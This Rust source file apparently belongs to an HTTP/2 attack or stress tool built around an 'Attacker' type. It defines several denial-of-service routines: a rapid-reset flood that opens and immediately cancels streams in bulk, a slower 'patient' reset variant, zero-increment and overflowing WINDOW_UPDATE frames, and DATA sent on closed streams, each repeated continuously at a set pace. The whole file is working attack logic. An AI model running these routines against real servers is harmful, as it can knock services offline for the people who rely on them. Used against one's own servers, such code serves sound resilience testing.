//! Requests that are over before they are answered.

use super::{OFTEN, health};
use crate::attacker::Attacker;
use crate::frame::plain;

pub(super) async fn rapid_reset(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| wire.preface(&[]),
            |wire| {
                for _ in 0..50 {
                    let stream = wire.stream();
                    wire.headers(stream, health.bytes());
                    wire.reset(stream);
                }
            },
        )
        .await
}

pub(super) async fn patient_reset(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    let mut pace = attacker.pace(OFTEN);
    let mut peer = None;
    let mut begun = Vec::new();
    while pace.next().await {
        let mut standing = match peer.take() {
            Some(peer) => peer,
            None => {
                begun.clear();
                let Some(mut fresh) = attacker.enter().await? else {
                    continue;
                };
                fresh.wire.preface(&[]);
                fresh
            }
        };
        for stream in begun.drain(..) {
            standing.wire.reset(stream);
        }
        for _ in 0..20 {
            let stream = standing.wire.stream();
            standing.wire.headers(stream, health.bytes());
            begun.push(stream);
        }
        peer = attacker.sent(standing).await;
    }
    Ok(())
}

pub(super) async fn empty_window_update(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| wire.preface(&[]),
            |wire| {
                for _ in 0..50 {
                    let stream = wire.stream();
                    wire.headers(stream, health.bytes());
                    wire.window_update(stream, 0);
                }
            },
        )
        .await
}

pub(super) async fn data_on_closed_stream(attacker: &Attacker) -> anyhow::Result<()> {
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| wire.preface(&[]),
            |wire| {
                for _ in 0..50 {
                    let stream = wire.stream();
                    wire.request(stream, health.bytes());
                    wire.last_data(stream, &plain(b""));
                }
            },
        )
        .await
}

pub(super) async fn overflowing_window(attacker: &Attacker) -> anyhow::Result<()> {
    const LARGEST: u32 = (1 << 31) - 1;
    let health = health();
    attacker
        .keep_on(
            OFTEN,
            |wire| wire.preface(&[]),
            |wire| {
                for _ in 0..50 {
                    let stream = wire.stream();
                    wire.headers(stream, health.bytes());
                    wire.window_update(stream, LARGEST);
                    wire.window_update(stream, LARGEST);
                }
            },
        )
        .await
}
